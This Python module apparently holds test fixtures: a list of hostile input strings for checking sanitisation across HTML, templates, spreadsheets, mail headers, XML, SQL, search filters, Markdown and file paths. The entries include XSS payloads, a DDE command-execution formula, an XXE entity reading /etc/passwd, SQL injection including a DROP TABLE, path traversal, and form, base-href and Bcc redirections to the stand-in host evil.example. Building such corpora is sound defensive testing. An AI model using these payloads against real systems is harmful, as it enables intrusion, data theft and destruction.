"""Texts that mean harm somewhere: in HTML, attributes, scripts, templates, spreadsheets, headers, XML, queries, filters."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # elements and attributes
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "</title><script>alert(1)</script>",
    "</textarea><img src=x onerror=alert(1)>", "<!--><img src=x onerror=alert(1)>-->", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
    "<form action=https://evil.example/><input name=password>", "<base href=https://evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>", "<a href=\"javascript:alert(1)\">x</a>", "<x hx-get=/en/ hx-trigger=load>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "x` onclick=`alert(1)", "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "&quot;&gt;&lt;script&gt;alert(1)", "&#x3C;script&#x3E;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "<ſcript>alert(1)</ſcript>", "＜script＞alert(1)＜/script＞",
    # addresses
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/x",
    # templates
    "{{7*191}}", "{% for x in config %}{{x}}{% endfor %}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "%(name)s %s %d", "{0.__class__.__mro__}",
    # spreadsheets
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "\t=1+1", "'=1+1", "|=1+1",
    # headers and lines
    "x\r\nBcc: evil@evil.example", "x\nSubject: other", "x\r\n\r\n<script>alert(1)</script>", "x%0d%0aSet-Cookie: evil=1", "x\u2028y\u2029z\x85Bcc: evil@evil.example",
    # XML, Atom, calendars, JSON-LD
    "]]><evil/><![CDATA[", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;", "<entry><title>x</title></entry>", "x\r\nEND:VEVENT\r\nBEGIN:VALARM",
    "</script><script>alert(1)</script>", "<!--<script>", "\"},\"@type\":\"Evil\",\"x\":{\"y\":\"", "\\\",\\\"a\\\":\\\"",
    # what deceives the eye, and what databases do not keep
    "\u202egpj.exe", "pay\u200bpal \u2066x\u2069", "\ufeffbom", "nul\0byte", "\x1b[31mred\x07", "z\u0300\u0301\u0302\u0303" * 20,
    # databases and filters
    "'; DROP TABLE organization; --", "' OR '1'='1", "1) UNION SELECT email FROM user--", "%_\\", "status = published OR status != x", "theme = 'x' OR audience EXISTS",
    "\"a\" NEAR/2 \"b\" OR name:*", "a* AND (NOT b) ^c", "_geoRadius(1,1,1)",
    # Markdown
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "[x]: javascript:alert(1)\n[x]", "<https://evil.example>", "`</code><script>alert(1)</script>`", "[a](https://evil.example \"onmouseover=alert(1)\")",
    # paths and length
    "../../../../etc/passwd", "..\\..\\x", "A" * 5000, "é" * 400, "<b>" * 1000,
)  # fmt: skip
